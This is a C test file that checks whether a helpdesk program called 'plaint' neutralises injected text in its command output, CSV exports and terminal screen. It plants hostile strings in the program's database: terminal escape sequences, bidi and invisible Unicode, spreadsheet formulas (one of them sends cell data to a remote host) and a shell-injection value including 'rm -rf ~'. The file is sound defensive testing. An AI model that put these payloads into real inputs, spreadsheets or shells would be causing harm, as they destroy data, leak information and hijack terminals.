/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Hostile text in every place that a store has for text: names, logins, teams, categories, subjects, words,
 * reasons, bulletins.  Whatever command prints it, and whatever screen shows it, no terminal obeys it, no
 * document breaks and no spreadsheet calculates it.
 */
#include <fcntl.h>
#include <jansson.h>
#include <signal.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "lib/pty.h"
#include "lib/tap.h"
#include "plaint/base/str.h"
#include "plaint/base/utf8.h"

enum { PATH = 512 };

static char home[] = "/tmp/plaint-injection-XXXXXX";
static char store[PATH], base[PATH];
static const char *program;

/* Each ends with a word by which it is seen that it was shown at all. */
static const struct evil {
	const char *name, *text;
} evils[] = {
	{ "colour and cursor", "\033[31m\033[2J\033[6nEVIL" },
	{ "clipboard and title", "\033]52;c;UFdORUQ=\007\033]0;owned\033\\EVIL" },
	{ "DCS and Esc c", "\033P+q544e\033\\\033cEVIL" },
	{ "C1 controls", "\xc2\x9b" "31m\xc2\x9d" "0;owned\xc2\x9c\xc2\x90q\xc2\x9c" "EVIL" },
	{ "raw bytes", "\x9b" "31m\xff\xfe\xc0\x80\xed\xa0\x80" "EVIL" },
	{ "directions", "\xe2\x80\xae" "drawkcab\xe2\x80\xac\xe2\x81\xa6\xe2\x80\x8f\xd8\x9c" "EVIL" },
	{ "invisible", "\xe2\x80\x8b\xe2\x81\xa0\xef\xbb\xbf\xf3\xa0\x81\x81\xe2\x80\xa8" "EVIL" },
	{ "bell and shift", "\007\016\017\b\b\b\v\f\177" "EVIL" },
	{ "lines", "first\r\nplaint: forged\rEVIL\n\n\tEVIL" },
	{ "marks", "Z\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a\xcc\x8b\xcc\x8c\xcc\x8d\xcc\x8e"
		   "\xcc\x8f\xcc\x90\xcc\x91\xcc\x92\xcc\x93\xcc\x94 EVIL" },
	{ "a formula", "=HYPERLINK(\"http://x/?\"&A1,\"EVIL\")" },
	{ "another", "@SUM(1+1)*cmd|' /C calc'!A0 EVIL" },
	{ "a shell", "$(touch /tmp/owned) `id`; rm -rf ~ | EVIL && %s%n%99999d" },
};

static void copy(const char *from, const char *to)
{
	static char room[1 << 16];
	char tail[PATH + 8];
	int in = open(from, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	for (ssize_t n; (n = read(in, room, sizeof room)) > 0;)
		if (write(out, room, (size_t)n) != n)
			exit(1);
	close(in);
	close(out);
	for (int i = 0; i < 2; i++) {
		snprintf(tail, sizeof tail, "%s%s", to, i ? "-shm" : "-wal");
		unlink(tail);
	}
}

/* Runs a command; its standard output, or its standard error, as text. */
static int run(const char *const *words, struct str *said, bool of_errors)
{
	const char *argv[24] = { program, "--store", store, "--as", "zhang", "--lang", "en" };
	int p[2], status = -1, n = strcmp(words[0], "demo") ? 7 : 1;
	while (*words && n < 23)
		argv[n++] = *words++;
	argv[n] = NULL;
	if (pipe(p))
		exit(1);
	pid_t pid = fork();
	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);
		dup2(null, 0);
		dup2(of_errors ? null : p[1], 1);
		dup2(of_errors ? p[1] : null, 2);
		execv(argv[0], (char *const *)(intptr_t)argv);
		_exit(126);
	}
	close(p[1]);
	char room[4096];
	for (ssize_t r; (r = read(p[0], room, sizeof room)) > 0;)
		str_addn(said, room, (size_t)r);
	close(p[0]);
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

/* Into every column of text that takes it.  Keys are the program's own: the schema keeps them, but for some. */
static void plant(const char *evil, bool keys_too)
{
	static const char columns[] =
	    "SELECT m.name, c.name FROM sqlite_schema m, pragma_table_info(m.name) c WHERE m.type = 'table' AND c.type = 'TEXT'"
	    " AND m.sql NOT LIKE '%VIRTUAL%' AND m.name NOT LIKE '%fts%' AND m.name NOT IN ('meta', 'policy', 'lease', 'saved_view')"
	    " AND (?1 OR c.name NOT IN ('channel', 'from_stage', 'to_stage', 'kind', 'what', 'state', 'unit', 'next_kind', 'segment'))"
	    " AND NOT (m.name = 'complaint' AND c.name = 'no') AND NOT (m.name = 'article' AND c.name = 'lang')";
	sqlite3 *lite;
	sqlite3_stmt *st = NULL;
	int planted = 0;
	sqlite3_open(store, &lite);
	for (bool more = true; more;) { /* what forbids changes, and keeps sums */
		char drop[200];
		sqlite3_prepare_v2(lite, "SELECT name FROM sqlite_schema WHERE type = 'trigger' LIMIT 1", -1, &st, NULL);
		more = sqlite3_step(st) == SQLITE_ROW;
		snprintf(drop, sizeof drop, "DROP TRIGGER \"%s\"", more ? (const char *)sqlite3_column_text(st, 0) : "");
		sqlite3_finalize(st);
		if (more)
			sqlite3_exec(lite, drop, NULL, NULL, NULL);
	}
	sqlite3_prepare_v2(lite, columns, -1, &st, NULL);
	sqlite3_bind_int(st, 1, keys_too);
	while (sqlite3_step(st) == SQLITE_ROW) {
		const char *table = (const char *)sqlite3_column_text(st, 0), *column = (const char *)sqlite3_column_text(st, 1);
		char sql[400];
		sqlite3_stmt *up;
		bool login = !strcmp(column, "login");
		snprintf(sql, sizeof sql, "UPDATE OR IGNORE \"%s\" SET \"%s\" = CAST(? AS TEXT) || \"%s\" WHERE \"%s\" <> '' %s", table,
			 column, column, column, login ? "AND login <> 'zhang'" : "");
		if (sqlite3_prepare_v2(lite, sql, -1, &up, NULL))
			continue;
		sqlite3_bind_blob(up, 1, evil, (int)strlen(evil), SQLITE_STATIC);
		planted += sqlite3_step(up) == SQLITE_DONE && sqlite3_changes(lite) > 0;
		sqlite3_finalize(up);
	}
	sqlite3_finalize(st);
	sqlite3_close(lite);
	if (planted < 20)
		ok(false, "only %d columns took it", planted);
}

/* Bytes of s that a terminal would obey or hide behind; 0 when there are none. */
static size_t harm(const char *s, size_t n, bool csv)
{
	for (size_t i = 0, k; i < n; i += k) {
		uint32_t cp;
		k = utf8_decode(s + i, n - i, &cp);
		bool line = cp == '\n' || cp == '\t' || (csv && cp == '\r' && i + 1 < n && s[i + 1] == '\n');
		if ((cp == UTF8_BAD && k == 1) || (!line && cp != utf8_shown(cp) && !(csv && cp >= 0x200B)))
			return i + 1;
	}
	return 0;
}

static const char *const commands[][8] = {
	{ "queue", "--filter", "scope=all", NULL }, { "show", "1009-05", NULL },	 { "show", "1009-05", "--file", NULL },
	{ "customer", "138", NULL },		    { "search", "EVIL", NULL },		 { "wall", "--once", NULL },
	{ "wall", "--once", "--page", "2", NULL },  { "wall", "--once", "--page", "3", NULL },
	{ "wall", "--once", "--page", "4", NULL },  { "wall", "--once", "--page", "5", NULL },
	{ "wall", "--once", "--page", "6", NULL },  { "wall", "--once", "--page", "7", NULL },
	{ "handover", NULL },			    { "alert", "list", "--all", NULL },	 { "outbox", "list", NULL },
	{ "bulletin", "list", NULL },		    { "notice", "list", NULL },		 { "approval", "list", NULL },
	{ "workorder", "list", NULL },		    { "user", "list", NULL },		 { "suggest", "1009-05", NULL },
	{ "figures", "--by", "team", NULL },	    { "figures", "--by", "category", NULL },
	{ "figures", "--by", "agent", NULL },	    { "sla", "explain", "1009-05", NULL }, { "reply", "1009-05", NULL },
	{ "duty", NULL },			    { "check", NULL },			 { "policy", "list", NULL },
};
enum { COMMANDS = sizeof commands / sizeof *commands };

static bool parses(const struct str *s)
{
	json_error_t why;
	json_t *j = json_loadb(s->s, s->len, 0, &why);
	if (!j)
		diag("%s at %d", why.text, why.position);
	json_decref(j);
	return j != NULL;
}

static bool one(const char *const *words, bool json, int *shown)
{
	const char *all[10] = { NULL };
	struct str out;
	int n = 0;
	str_init(&out, 0);
	for (; words[n]; n++)
		all[n] = words[n];
	if (json)
		all[n++] = "--json";
	int status = run(all, &out, false);
	size_t bad = harm(out.s, out.len, false);
	bool good = status < 128 && !bad;
	if (json && good && out.len && !parses(&out))
		good = false;
	if (!good)
		diag("%s %s%s: status %d, at byte %zu: %.60s", words[0], words[1] ? words[1] : "", json ? " --json" : "", status, bad,
		     bad > 20 ? out.s + bad - 20 : out.s);
	*shown += strstr(out.s, "EVIL") != NULL;
	str_clear(&out);
	if ((!good && status < 128) || json)
		return good;
	str_init(&out, 0); /* and what it says when it refuses */
	status = run(all, &out, true);
	bad = harm(out.s, out.len, false);
	if (status >= 128)
		diag("%s", out.s);
	if (bad)
		diag("%s, standard error, at byte %zu", words[0], bad);
	str_clear(&out);
	return good && !bad;
}

/* Sums are made again with the names that are there now, so that groups are called by them. */
static void in_commands(const struct evil *v)
{
	int good = 0, shown = 0;
	for (int i = 0; i < COMMANDS; i++)
		for (int json = 0; json < 2; json++)
			good += one(commands[i], json, &shown);
	ok(good == 2 * COMMANDS && shown > 15, "%s: %d of %d outputs are harmless, %d show it", v->name, good, 2 * COMMANDS, shown);
}

/* A store whose keys are not ours: damaged is said, with its status. */
static void in_keys(void)
{
	int good = 0, damaged = 0, shown = 0;
	copy(base, store);
	plant(evils[0].text, true);
	for (int i = 0; i < COMMANDS; i++) {
		struct str said;
		str_init(&said, 0);
		good += one(commands[i], false, &shown);
		damaged += run(commands[i], &said, true) == 4 && strstr(said.s, "is damaged");
		str_clear(&said);
	}
	ok(good == COMMANDS && damaged > 5, "keys that there are not: %d of %d end well, %d say damaged", good, COMMANDS, damaged);
}

static void in_csv(const struct evil *v)
{
	static const char *const by[] = { "team", "category", "agent" };
	for (int i = 0; i < 3; i++) {
		const char *words[] = { "figures", "--by", by[i], "--csv", NULL };
		struct str out;
		int calculated = 0;
		str_init(&out, 0);
		int status = run(words, &out, false);
		bool quoted = false, start = true;
		for (size_t k = 0; k < out.len; k++) {
			char c = out.s[k];
			if (start && !quoted && strchr("=+@", c))
				calculated++;
			if (c == '"') {
				quoted = !quoted;
				calculated += start && strchr("=+@\t\r", out.s[k + 1]) != NULL;
			}
			start = !quoted && (c == ',' || c == '\n');
		}
		ok(!status && !calculated && !quoted && !harm(out.s, out.len, true), "%s: figures --by %s --csv", v->name, by[i]);
		str_clear(&out);
	}
}

/* What the program itself sends: nothing of the data's sequences. */
static bool obeyed(struct pty *p)
{
	static const char *const never[] = { "\033[31m\033[2J\033[6n", "\033[6n", "\033]52", "\033]0;owned", "\033P", "\033c",
					     "\xc2\x9b",	       "\xc2\x9d", ("\x9b" "31m"), "\xe2\x80\xae", "\xe2\x80\x8b",
					     "\xe2\x81\xa6",	       "\xef\xbb\xbf", "\xf3\xa0\x81\x81", "\177", "\v", "\f" };
	for (size_t i = 0; i < sizeof never / sizeof *never; i++)
		if (pty_wrote(p, never[i])) {
			diag("the terminal got sequence %zu", i);
			return true;
		}
	return false;
}

static void on_screen(const struct evil *v)
{
	static const char *const keys[] = { "\r", "\033", "E", "\033", "ga", "\033", "gw", "\033", "gm", "\033", "/EVIL\r", "\033",
					    "FEVIL\r", "\r", "\033", "c1", "\033", "i", "\033", "=", "W", "\033", "?", "\033" };
	const char *argv[] = { program, "--store", store, "--as", "zhang", "--lang", "en", "--borders", "ascii", "desk", NULL };
	const char *env[] = { "TZ=Asia/Shanghai", NULL };
	struct pty_spec spec = { argv, 40, 132, "C.UTF-8", "xterm-256color", env };
	struct pty *p = pty_start(&spec);
	bool up = pty_wait_text(p, "queue");
	pty_settle(p, 60);
	char *first = pty_screen_text(p);
	bool seen = strstr(first, "EVIL") != NULL;
	free(first);
	for (size_t i = 0; i < sizeof keys / sizeof *keys && up; i++) {
		pty_send(p, keys[i], strlen(keys[i]));
		pty_settle(p, 30);
	}
	bool bad = obeyed(p);
	pty_signal(p, SIGTERM);
	int status = pty_exit_status(p);
	ok(up && seen && !bad && (status <= 4 || status == 128 + SIGTERM), "%s: on the desk (status %d)", v->name, status);
	pty_free(p);
}

int main(void)
{
	const char *demo[] = { "demo", home, NULL };
	struct str said;
	program = getenv("PLAINT");
	if (!program || !mkdtemp(home))
		skip_all("no program or no temporary directory");
	setenv("HOME", home, 1);
	setenv("XDG_DATA_HOME", home, 1);
	setenv("XDG_STATE_HOME", home, 1);
	setenv("XDG_CONFIG_HOME", home, 1);
	setenv("PLAINT_NOW", "2025-10-09 14:32", 1);
	snprintf(base, sizeof base, "%s/base.db", home);
	snprintf(store, sizeof store, "%s/desk.db", home);
	str_init(&said, 0);
	is_int(run(demo, &said, true), 0, "the demo store is made");
	str_clear(&said);
	copy(store, base);
	for (size_t i = 0; i < sizeof evils / sizeof *evils; i++) {
		copy(base, store);
		plant(evils[i].text, false);
		in_commands(&evils[i]);
		in_csv(&evils[i]);
		on_screen(&evils[i]);
	}
	in_keys();
	ok(access("/tmp/owned", F_OK) != 0, "no shell has seen it");
	char sweep[PATH];
	snprintf(sweep, sizeof sweep, "rm -rf '%.400s'", home);
	FILE *f = popen(sweep, "w");
	if (f)
		pclose(f);
	return tap_done();
}
